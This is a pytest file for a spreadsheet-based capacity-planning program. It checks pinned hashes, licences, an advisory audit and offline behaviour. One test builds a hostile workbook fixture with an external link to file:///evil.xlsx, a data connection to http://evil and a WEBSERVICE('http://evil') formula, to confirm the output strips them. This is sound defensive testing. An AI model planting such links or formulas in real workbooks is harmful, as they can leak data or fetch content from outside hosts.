"""What the program stands on: pinned and hashed, under licences that are allowed, without a network when it runs, and with nothing live taken from an input."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from importlib import metadata
from pathlib import Path

import pytest
from audit_dependencies import FOLDER, found
from audit_dependencies import main as audit
from bill_of_materials import completed
from locked import LOCKS, ROOT, licences, locked
from openpyxl import load_workbook

from tests.broken.archives import BOOK, RELS, SHEET, before, part, right

# Permissive licences and weak copyleft by the file (MPL): all that a program under Apache-2.0 may be installed with.
ALLOWED = {"0BSD", "Apache-2.0", "BSD-2-Clause", "BSD-3-Clause", "CC0-1.0", "ISC", "MIT", "MPL-2.0", "PSF-2.0", "Zlib"}
EXCEPTIONS = {"LLVM-exception"}
FAMILIES = {"apache": "apache", "bsd": "bsd", "0bsd": "bsd", "mit": "mit", "isc": "isc", "mpl": "mpl", "mozilla": "mpl", "psf": "psf", "python software": "psf"}


@pytest.mark.parametrize("lock", LOCKS, ids=lambda lock: lock.name)
def test_every_requirement_is_pinned_and_hashed_and_names_no_index(lock: Path) -> None:
    text = lock.read_text(encoding="utf-8")
    entries = [entry for entry in re.split(r"^(?=[A-Za-z0-9])", text, flags=re.MULTILINE) if entry.strip() and not entry.startswith("#")]
    assert entries
    for entry in entries:
        assert re.match(r"[A-Za-z0-9._-]+==\S+", entry), entry
        assert re.search(r"--hash=sha256:[0-9a-f]{64}", entry), entry
    assert "://" not in re.sub(r"^\s*#.*$", "", text, flags=re.MULTILINE)


def test_every_locked_package_has_a_licence_that_is_allowed(record_property: Callable[[str, object], None]) -> None:
    """Of all lock files, installed here or not: on Windows, for the fuzzer, for the bill of materials."""
    said = licences()
    assert said.keys() == {name for lock in LOCKS for name in locked(lock)}, "licences.csv has a row for each package of the lock files and no other"
    for name, licence in said.items():
        assert set(re.split(r" (?:AND|OR|WITH) ", licence)) <= ALLOWED | EXCEPTIONS, f"{name}: {licence}"
    record_property("licences of locked packages checked", len(said))


def test_the_table_of_licences_says_what_the_packages_say() -> None:
    for name, licence in licences().items():
        try:
            said = metadata.metadata(name)
        except metadata.PackageNotFoundError:
            continue
        classified = [text for text in said.get_all("Classifier") or () if text.startswith("License ::")]
        own = " ".join((said.get("License-Expression") or "", *classified, (said.get("License") or "").partition("\n")[0]))
        assert not families(own) or families(licence) & families(own), f"{name}: {licence} in the table, its metadata say {own[:200]}"


def families(text: str) -> set[str]:
    """The families of licences that a text names."""
    return {family for word, family in FAMILIES.items() if re.search(rf"\b{word}", text, re.IGNORECASE)}


def test_a_bill_of_materials_that_is_not_the_lock_is_refused(tmp_path: Path) -> None:
    lock = tmp_path / "small.lock"
    lock.write_text(f"click==8.5.1 \\\n    --hash=sha256:{'a' * 64}\nrich==15.0.0 \\\n    --hash=sha256:{'b' * 64}\n", encoding="utf-8")

    def listed(name: str, version: str, of: str) -> dict[str, object]:
        return {"name": name, "version": version, "externalReferences": [{"hashes": [{"alg": "SHA-256", "content": of * 64}]}]}

    click, rich = listed("click", "8.5.1", "a"), listed("rich", "15.0.0", "b")
    assert [entry["licenses"] for entry in completed({"components": [click, rich]}, lock)["components"]] == [
        [{"expression": "BSD-3-Clause"}],
        [{"expression": "MIT"}],
    ]
    for wrong in (listed("rich", "15.0.1", "b"), listed("rich", "15.0.0", "c"), listed("pandas", "3.0.0", "b")):
        with pytest.raises(ValueError, match="differ in"):
            completed({"components": [click, wrong]}, lock)


def advisory(identity: str, name: str, **affected: object) -> dict[str, object]:
    """An advisory in OSV's form."""
    return {"id": identity, "modified": "2026-11-20T08:00:00Z", "affected": [{"package": {"name": name, "ecosystem": "PyPI"}, **affected}]}


def span(*events: dict[str, str]) -> list[dict[str, object]]:
    """A range of versions in OSV's form."""
    return [{"type": "ECOSYSTEM", "events": list(events)}]


def test_the_audit_finds_what_an_advisory_lists_or_its_range_covers() -> None:
    known = [
        advisory("LISTED", "Jinja_2", versions=["2.4", "2.4.1"]),
        advisory("OTHER", "jinja-2", versions=["2.4.2"]),
        advisory("INSIDE", "scipy", ranges=span({"introduced": "0"}, {"fixed": "1.5"})),
        advisory("AGAIN", "scipy", ranges=span({"introduced": "0"}, {"fixed": "1.0"}, {"introduced": "1.3"}, {"last_affected": "1.4.0"})),
        advisory("FIXED", "scipy", ranges=span({"introduced": "1.1"}, {"fixed": "1.4"})),
    ]
    assert list(found({"jinja-2": ["2.4.1"], "scipy": ["1.4"]}, known)) == ["jinja-2 2.4.1: LISTED", "scipy 1.4: INSIDE", "scipy 1.4: AGAIN"]


def test_an_audit_without_data_says_that_it_was_not_run(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(FOLDER, raising=False)
    assert audit([]) == 0
    assert capsys.readouterr().out.startswith("dependency audit: NOT RUN, ")
    (tmp_path / "osv-scanner" / "PyPI").mkdir(parents=True)
    with zipfile.ZipFile(tmp_path / "osv-scanner" / "PyPI" / "all.zip", "w") as archive:
        stands = advisory("X-1", "Click", ranges=span({"introduced": "0"}))
        archive.writestr("X-1.json", json.dumps(stands))
        archive.writestr("X-2.json", json.dumps({**stands, "id": "X-2", "withdrawn": "2026-11-19"}))
    monkeypatch.setenv(FOLDER, str(tmp_path))
    assert audit([]) == 1
    shown = capsys.readouterr().out.splitlines()
    assert shown[0].endswith(": X-1")
    assert shown[-1] == f"dependency audit: {len(licences())} locked packages against 1 advisories up to 2026-11-20: 1 known"


OFFLINE = """
import sys
def watch(event, arguments):
    if event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.bind", "socket.sendto", "urllib.Request"):
        raise RuntimeError(f"the program asked for a network: {event} {arguments}")
sys.addaudithook(watch)
import solve
for command in COMMANDS:
    sys.argv = ["solve.py", *command]
    try:
        solve.main()
    except SystemExit as done:
        if done.code:
            raise
"""


def test_nothing_asks_for_a_network(tmp_path: Path) -> None:
    """Every command that reads, plans, predicts or writes, in a process where asking for a connection or a name is an error."""
    plan, points = tmp_path / "plan.xlsx", tmp_path / "points.csv"
    plan.write_bytes(right())
    points.write_text("model,gpu,precision,input_tokens,output_tokens,concurrency\nLlama-3.1-8B,L40S,fp8,1000,200,8\n", encoding="utf-8")
    commands = (
        ["template", str(tmp_path / "new.xlsx"), "--example", "organisation"],
        ["check", str(plan)],
        [str(plan), "--json", str(tmp_path / "plan.json")],
        ["simulate", str(tmp_path / "plan.json"), "--seeds", "1", "--workers", "1", "-o", str(tmp_path / "simulation.xlsx")],
        ["predict", str(points)],
        ["validate"],
        ["catalogue", "gpus"],
    )
    done = subprocess.run([sys.executable, "-c", OFFLINE.replace("COMMANDS", repr(commands))], cwd=ROOT, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert (tmp_path / "plan.result.xlsx").is_file()


def test_links_formulas_and_external_references_of_an_input_end_there(tmp_path: Path) -> None:
    """An input with a link to another workbook, a web query, a hyperlink and a formula: the result holds none of them, and names no place outside itself."""
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
    external = b'<Relationship Id="rId99" Type="%s" Target="file:///evil.xlsx" TargetMode="External"/>' % kind
    book = part(RELS, before(b"</Relationships>", external))(right())
    book = part("xl/externalLinks/externalLink1.xml", lambda _: b"<externalLink/>")(book)
    book = part("xl/connections.xml", lambda _: b'<connections><connection url="http://evil"/></connections>')(book)
    book = part(BOOK, before(b"</workbook>", b'<externalReferences><externalReference id="rId99"/></externalReferences>'))(book)
    book = part(SHEET, lambda xml: re.sub(rb'(<c r="C2"[^>]*)>(<v>)', rb"\1><f>WEBSERVICE(&quot;http://evil&quot;)</f>\2", xml))(book)
    plan = tmp_path / "plan.xlsx"
    plan.write_bytes(book)
    done = subprocess.run([sys.executable, str(ROOT / "solve.py"), str(plan)], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    with zipfile.ZipFile(tmp_path / "plan.result.xlsx") as archive:
        text = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    assert not [name for name, content in text.items() if "evil" in content or "WEBSERVICE" in content or "externalLink" in name]
    assert not [name for name, content in text.items() if name.endswith(".rels") and 'TargetMode="External"' in content]
    formulas = [str(cell.value) for sheet in load_workbook(tmp_path / "plan.result.xlsx") for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas
    assert not [formula for formula in formulas if "[" in formula or "://" in formula]
